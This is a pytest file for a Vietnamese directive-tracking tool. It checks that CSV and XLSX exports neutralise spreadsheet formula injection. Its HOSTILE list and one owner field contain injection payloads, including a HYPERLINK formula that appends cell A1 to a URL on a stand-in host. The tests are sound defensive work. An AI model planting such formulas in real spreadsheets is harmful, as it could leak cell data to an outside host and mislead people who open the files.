"""Text from a report or typed by a person never becomes a live formula in a spreadsheet:
XLSX cells are strings, CSV cells that start like a formula get a leading quote (OWASP)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from test_one_item_per_event import as_json, chidao, ingest
from test_recurring import TAY_NINH
from test_report import item

from chidao.commands.register import cell
from chidao.commands.register_csv import csv_value
from chidao.report.content import build_report
from chidao.report.letterhead import Letterhead
from chidao.report.spreadsheet_text import csv_text
from chidao.report.xlsx_report import render_xlsx

HOSTILE = ['=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")', "+1+2", "-2+3", "@SUM(1+1)",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_text_quotes_every_formula_start(text: str) -> None:
    assert csv_text(text) == "'" + text
    assert csv_text("Công an tỉnh " + text) == "Công an tỉnh " + text


def test_a_number_keeps_its_sign_in_csv_and_text_does_not_run() -> None:
    assert csv_value({"value": -5.0}, "value", cell) == "-5"
    assert csv_value({"value": -5.5}, "value", cell, decimal_comma=True) == "-5,5"
    assert csv_value({"owner": "-PC02"}, "owner", cell) == "'-PC02"
    assert csv_value({"value": "-5"}, "value", cell) == "'-5"  # text, not a number


def formulas_in(path: Path) -> list[str]:
    """Every <f> (formula) element in the workbook's sheets."""
    with zipfile.ZipFile(path) as workbook:
        return [name for name in workbook.namelist()
                if name.startswith("xl/worksheets/") and b"<f>" in workbook.read(name)]


def test_an_excel_report_writes_hostile_text_as_text(tmp_path: Path) -> None:
    directives = [item("directives", "d", "2024-05-09", speaker=text, text=text, owner=text, topics=["crime"],
                       document_title=text) for text in HOSTILE]
    report = build_report("=cmd", {"directives": directives}, today=dt.date(2025, 1, 2))
    path = render_xlsx(report, tmp_path / "r.xlsx", Letterhead(unit="=Đơn vị"))
    assert formulas_in(path) == []
    workbook = load_workbook(path)
    values = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row
              if isinstance(cell.value, str)]
    for text in HOSTILE:
        cells = [cell for cell in values if cell.value == text]
        assert len(cells) >= 3  # the directive, its speaker and its owner, as typed
        assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells)
    assert any(cell.value.startswith("=HYPERLINK") and cell.value in HOSTILE for cell in values)


def test_what_a_person_typed_is_quoted_in_csv_and_text_in_xlsx(tmp_path: Path, store: str) -> None:
    db = ingest(tmp_path, store, {"tay_ninh.txt": TAY_NINH})
    directive = as_json(db, "directives")[0]
    chidao(db, "status", directive["id"], "--owner", '=HYPERLINK("http://example.invalid","PC02")')
    printed = chidao(db, "directives", "--format", "csv").stdout
    (row,) = [r for r in csv.DictReader(io.StringIO(printed.removeprefix("\ufeff")))
              if r["Mã"] == directive["id"]]
    assert row["Phụ trách"] == '\'=HYPERLINK("http://example.invalid","PC02")'
    # The same in a file, and in a workbook as a string cell.
    out = tmp_path / "so.csv"
    chidao(db, "directives", "-o", str(out))
    assert out.read_text(encoding="utf-8") == printed
    book = tmp_path / "so.xlsx"
    chidao(db, "directives", "-o", str(book))
    assert formulas_in(book) == []
    sheet = load_workbook(book).active
    header = [c.value for c in sheet[1]]
    owner = sheet.cell(row=2, column=header.index("Phụ trách") + 1)
    assert owner.value == '=HYPERLINK("http://example.invalid","PC02")' and owner.data_type == "s"
